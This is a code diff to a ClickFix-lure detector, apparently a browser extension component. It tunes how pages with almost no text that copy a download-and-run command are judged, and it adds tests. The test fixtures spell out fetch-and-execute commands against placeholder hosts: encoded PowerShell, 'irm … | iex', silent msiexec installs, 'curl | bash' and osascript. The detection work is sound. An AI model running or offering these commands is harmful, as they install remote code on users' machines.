@@ -66,6 +66,19 @@ const CHECKS: Words = words::CLICKFIX_CHECKS;
 const STATUS_ENDINGS: Words = words::CLICKFIX_STATUS_ENDINGS;
 /// A page saying it copies ("Copy", "Kopiuj", "コピー", "복사", "复制" …).
 const COPY: Words = words::CLICKFIX_COPY;
+/// A code block's label over an installer: a shell's or a system's name, a tab ("bash", "zsh",
+/// "Windows", "macOS / Linux", "Homebrew"), no gate's button (review 46 R46-B2). Whole words of
+/// the visible text. ("PowerShell" and "Terminal" are `OFFERS` words already.)
+const LABELS: &str = "bash sh zsh fish pwsh cmd macos linux windows unix curl wget npm brew \
+                      homebrew winget scoop";
+/// A page naming what it offers to run: tools, downloads, a setup, scripts, commands, a shell
+/// ("Tools", "Downloads", "Ausführen", "実行"): a lone such word is a portal's, no gate's.
+const OFFERS: &str = "tool setup download script shell terminal console command werkzeug \
+                      herunterlad skript befehl ausführ konsole outil téléchar exécut \
+                      herramient descarg comando ejecut consola strument scaric esegu ferrament \
+                      baixar execut opdracht uitvoer narzędz pobier polecen uruchom инструмент \
+                      скача команд запуст araç indir komut çalıştır ツール ダウンロード コマンド 実行 \
+                      도구 다운로드 명령 실행 工具 下载 下載 命令 运行 執行 执行";
 
 /// Where a command runs: Windows run-dialog instructions only make a Windows command ClickFix.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -1412,8 +1425,10 @@ fn buried(raw: &str) -> bool {
 }
 
 /// Reads the copied text. `None` when it is not a command this module recognises.
-/// (Called for the clipboard and the page's lines: one copy in the Wasm.)
+/// (Called for the clipboard and the page's lines: one copy in the Wasm, optimised for size:
+/// it reads a copied text or a line starting with a program's name, never a page's prose.)
 #[inline(never)]
+#[cfg_attr(hangup_size, optimize(size))]
 pub fn recognise(raw: &str) -> Option<Command> {
     let mut raw = raw.to_string();
     truncate_utf8(&mut raw, MAX_CLIPBOARD_BYTES);
@@ -1561,6 +1576,8 @@ pub struct PageHits {
     status: bool,
     /// The page's visible text (its title aside) is one word at most: a lone button.
     lone: bool,
+    /// The page's visible text has a word (a lone page's button names what it does).
+    said: bool,
 }
 
 /// Whether a flattened line starting with a check stem is a status: the stem ending its word or
@@ -1587,7 +1604,11 @@ impl PageHits {
         let mut flat = String::new();
         // The first line's status (None before a line), and a line naming what it checks.
         let (mut first, mut object) = (None, false);
-        for p in parts {
+        // The second part's (page_of: the visible text's) words, those outside a status line,
+        // and whether one is a code block's label.
+        let (mut all, mut kept, mut label, mut text) = (0, 0, false, false);
+        for (i, p) in parts.into_iter().enumerate() {
+            text |= i == 1;
             if trim(p).is_empty() {
                 continue;
             }
@@ -1598,6 +1619,15 @@ impl PageHits {
                     let s = check_status(&l);
                     first = first.or(Some(s == Some(true)));
                     object |= s == Some(false);
+                    if i == 1 {
+                        // (Words: a flattened line's spaces and one.)
+                        let n = 1 + l.bytes().filter(|&b| b == b' ').count();
+                        all += n;
+                        if !(l.ends_with("..") || l.ends_with('…') || s == Some(true)) {
+                            kept += n;
+                        }
+                        label |= LABELS.split(' ').any(|w| has_word(&l, w));
+                    }
                 }
             }
             let n = normalize(p);
@@ -1638,12 +1668,17 @@ impl PageHits {
         PageHits {
             base,
             hits,
-            flat,
             site: String::new(),
             cut: false,
             help: false,
             status,
-            lone: false,
+            // One word, its button, once a line that is a status ("Loading...", "Bitte
+            // warten…") or a lone check word ("Verify") is set aside (a heading naming what it
+            // checks, "Rechnung überprüfen", is two words); three words at most (a terse page).
+            lone: text && flat.len() <= TERSE_PAGE && all <= 3 && kept <= 1,
+            // (A code block's label, "bash" or "Windows", says nothing of what the button does.)
+            said: all > 0 && !label,
+            flat,
         }
     }
 
@@ -2205,14 +2240,14 @@ fn typed(snap: &Snapshot, text: &str) -> Option<ClickFix> {
 }
 
 /// The page's title, text, alt texts and (when asked) dialog texts, read for ClickFix (one copy
-/// in the Wasm).
+/// in the Wasm). Read only when a command is copied or shown: optimised for size in the Wasm.
 #[inline(never)]
+#[cfg_attr(hangup_size, optimize(size))]
 fn page_of(snap: &Snapshot, text: &str, alt_texts: &[String], dialogs: &[String]) -> PageHits {
     let parts = [snap.title.as_str(), text]
         .into_iter()
         .chain(alt_texts.iter().chain(dialogs).map(String::as_str));
     let mut page = PageHits::new(parts).on(&snap.url);
-    page.lone = text.split_whitespace().nth(1).is_none();
     // Within 1 KB of the bound: the content script stops at a node's edge.
     page.cut = snap.text.len() + 1024 > crate::snapshot::MAX_TEXT_BYTES;
     page
@@ -2296,7 +2331,9 @@ fn typed_lines(text: &str) -> Vec<&str> {
 
 /// `typed`: the command is one the page shows to be typed by hand (nothing was copied); it
 /// needs run-dialog or Terminal steps, a human check or a story, and no word about scams.
+/// (Run only on a copied or shown command: optimised for size in the Wasm, as `page_of`.)
 #[inline(never)]
+#[cfg_attr(hangup_size, optimize(size))]
 fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<ClickFix> {
     // A write-up about ClickFix quotes the lure's steps and command, and its code block's copy
     // button copies it: words about the attack, the command shown as copied, nothing hidden.
@@ -2456,16 +2493,36 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // "Deploy" button fetches a named `.ps1`/`.msi` (`published`); a page of two words is a
     // portal's heading and its button (review 43 CF43-H1), a tool's "Tools" page copies a plain
     // `iwr … | iex`.
+    // Forty-sixth session: an encoded script (`powershell -e …`, whatever it fetches); and,
+    // when a word is said and it is no Copy button (a docs widget's frame copies its installer
+    // so), a plain download run (`irm … | iex`, `msiexec /i https://…`, `curl … | bash`,
+    // `osascript`) from another site's unnamed path: "Continue", "Überprüfen".
+    let encoded = command
+        .shapes
+        .iter()
+        .any(|s| matches!(s, Shape::PowerShellEncoded | Shape::Base64Shell));
+    // (An icon's frame says nothing: a word, and no Copy word, nor one naming what the page
+    // offers to run: a "Tools" or "Downloads" page.)
+    let named = page.said
+        && !has_any(&page.flat, COPY.get())
+        && !has_any(&page.flat, OFFERS)
+        && !has_word(&page.flat, "run");
     let unasked = page.lone
-        && !command.published
-        && (hidden_run
-            || command.shapes.iter().any(|s| {
-                *s == Shape::DownloadStart
-                    || *s == Shape::Cmd && command.remote && has(&command.flat, "| cmd")
-            }));
+        && (encoded
+            || !command.published
+                && command.shapes.iter().any(|s| {
+                    hidden_run
+                        || *s == Shape::DownloadStart
+                        || *s == Shape::Cmd && command.remote && has(&command.flat, "| cmd")
+                        || named && matches!(s, Shape::PowerShellDownload | Shape::MsiexecUrl)
+                })
+            // (From another site's path: a Unix installer of a portal or docs names itself.)
+            || named
+                && !published(&command.flat, true)
+                && command.runs_on(Platform::Unix));
     let terse = page.flat.len() <= TERSE_PAGE
         // (From the internet: a join command to a private address is the person's network.)
-        && (fetch > 0 || !command.https_sites.is_empty())
+        && (fetch > 0 || !command.https_sites.is_empty() || unasked && encoded)
         && !command.fetches_from_site(&page.site)
         && !command.fetches_from_owned(&page.site)
         && !own_ip
@@ -2597,8 +2654,12 @@ mod tests {
     }
 
     /// Whether `clip` is judged on a page of these parts served from `url`.
+    /// (Read as a page of many words, as before the forty-sixth session read a lone page's text
+    /// in `PageHits::new`: these parts are no title and visible text.)
     fn on(url: &str, parts: &[&str], clip: &str) -> bool {
-        assess(clip, &PageHits::new(parts.iter().copied()).on(url)).is_some()
+        let mut page = PageHits::new(parts.iter().copied()).on(url);
+        page.lone = false;
+        assess(clip, &page).is_some()
     }
 
     const CAPTCHA: &str = "Verify you are human. Press Win + R, then Ctrl + V, then Enter.";
@@ -2922,23 +2983,22 @@ mod tests {
                 "{label} {clip}"
             );
             // Not so: two words (a portal's heading and its button), the command shown, the
-            // page's own site, a plain `iwr … | iex`.
-            for (url, text, clip) in [
-                (at, format!("Rechnung {label}"), clip.to_string()),
-                (at, format!("{label}\n{clip}"), clip.to_string()),
-                ("https://relay.test/", label.to_string(), clip.to_string()),
-                (
-                    at,
-                    label.into(),
-                    "powershell -c \"iwr https://relay.test/k | iex\"".into(),
-                ),
+            // page's own site.
+            for (url, text) in [
+                (at, format!("Rechnung {label}")),
+                (at, format!("{label}\n{clip}")),
+                ("https://relay.test/", label.to_string()),
             ] {
-                assert_eq!(
-                    reasons(&snap_of(url, title, &text, &clip)),
-                    None,
-                    "{text} {clip}"
-                );
+                assert_eq!(reasons(&snap_of(url, title, &text, clip)), None, "{text}");
             }
+            // A plain `iwr … | iex`: silent under a Copy button (a tool's copy widget), warned
+            // under any other lone word since the forty-sixth session.
+            let plain = "powershell -c \"iwr https://relay.test/k | iex\"";
+            assert_eq!(
+                reasons(&snap_of(at, title, label, plain)).is_none(),
+                label == "Copy",
+                "{label}"
+            );
         }
         // A named script: a vendor's installer.
         let named = "powershell -w hidden -c \"iex(iwr https://relay.test/c.ps1)\"";
@@ -2975,6 +3035,100 @@ mod tests {
                 "{label} {clip}"
             );
         }
+    }
+
+    #[test]
+    fn clickfix46_a_page_of_almost_no_words_copying_a_download_run() {
+        // Forty-sixth session (issue 9 goal 3): "Loading..." over an encoded PowerShell, a check
+        // word and a button ("Verify · Continue"), a plain `irm … | iex` or `msiexec /i https://…`
+        // under a button that names no copy ("Continue", "Überprüfen"), a Unix download run under
+        // one on a fake macOS page. Each was silent before.
+        let b64 = "SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAGQALgB0AGUAcwB0AC8AcwApAA==";
+        let enc = format!("powershell -e {b64}");
+        let cases = [
+            ("Document", "Loading...", enc.as_str()),
+            ("請求書", "読み込み中...", enc.as_str()),
+            (
+                "Boleto",
+                "Verificar\nContinuar",
+                "powershell -WindowStyle Hidden -c \"iwr https://pkg.test/b -UseBasicParsing | iex\"",
+            ),
+            ("Shared file", "Continue", "irm https://cdn.test/q | iex"),
+            (
+                "Paketstatus",
+                "Überprüfen",
+                "powershell -c \"irm https://dl.test/c | iex\"",
+            ),
+            (
+                "Avis",
+                "Continuer",
+                "msiexec /i https://serv.test/pkg /qn",
+            ),
+            (
+                "macOS Update",
+                "Continue",
+                "curl -fsSL https://updates.test/i | bash",
+            ),
+            (
+                "iCloud",
+                "Verify",
+                "osascript -e 'do shell script \"curl -s https://ph.test/a | sh\"'",
+            ),
+        ];
+        for (title, text, clip) in cases {
+            let at = "https://gate.example/";
+            assert!(
+                reasons(&snap_of(at, title, text, clip)).is_some(),
+                "{text} {clip}"
+            );
+            // Not so: a portal's heading and its button, the command shown.
+            // ("Loading..." is a status: a heading and it are a lone page.)
+            let heading = format!("Rechnung {text}");
+            for text in [heading, format!("{text}\n{clip}")] {
+                if text.ends_with("...") {
+                    continue;
+                }
+                assert_eq!(reasons(&snap_of(at, title, &text, clip)), None, "{text}");
+            }
+        }
+        // A Copy button (a docs widget's frame), an icon's frame with no word, a named installer,
+        // an install button, a word naming what the page offers to run (a portal's), a coupon.
+        for (text, clip) in [
+            ("Copy", "irm https://cdn.test/win | iex"),
+            ("Kopiuj", "curl -fsSL https://cdn.test/i | sh"),
+            ("Copia", "msiexec /i https://cdn.test/s /qn"),
+            ("", "irm https://cdn.test/win | iex"),
+            ("Continue", "irm https://cdn.test/i.ps1 | iex"),
+            ("Install", "curl -fsSL https://cdn.test/i | bash"),
+            ("Tools", "irm https://cdn.test/win | iex"),
+            ("Run", "curl -fsSL https://cdn.test/b | bash"),
+            ("ツール", "irm https://cdn.test/win | iex"),
+            ("Downloads", "msiexec /i https://cdn.test/s /qn"),
+            ("Continue", "SAVE20"),
+            // A code block's label (review 46 R46-B2: fnm's and Bun's real installers).
+            ("bash", "curl -fsSL https://cdn.test/install | bash"),
+            ("zsh", "curl -fsSL https://cdn.test/install | zsh"),
+            ("Windows", "irm https://cdn.test/install.win | iex"),
+            ("Linux", "curl -fsSL https://cdn.test/i | sh"),
+        ] {
+            let snap = snap_of("https://docs.a.example/", "", text, clip);
+            assert_eq!(reasons(&snap), None, "{text} {clip}");
+        }
+        // The command's own site.
+        let snap = snap_of(
+            "https://cdn.test/",
+            "",
+            "Continue",
+            "irm https://cdn.test/q | iex",
+        );
+        assert_eq!(reasons(&snap), None);
+        // A French admin guide deploying its agent from its own site under Run-box steps (warned
+        // before "déploiement de l'agent" joined fr `install_docs`, as English "deploy the agent").
+        let clip = "msiexec /i https://intranet.mairie.example/dsi/Agent.msi /qn";
+        let text = format!("Ouvrez Exécuter (Win+R), collez la commande et validez.\n{clip}");
+        let at = "https://intranet.mairie.example/dsi/agent";
+        let snap = snap_of(at, "Déploiement de l'agent", &text, clip);
+        assert_eq!(reasons(&snap), None);
     }
 
     #[test]
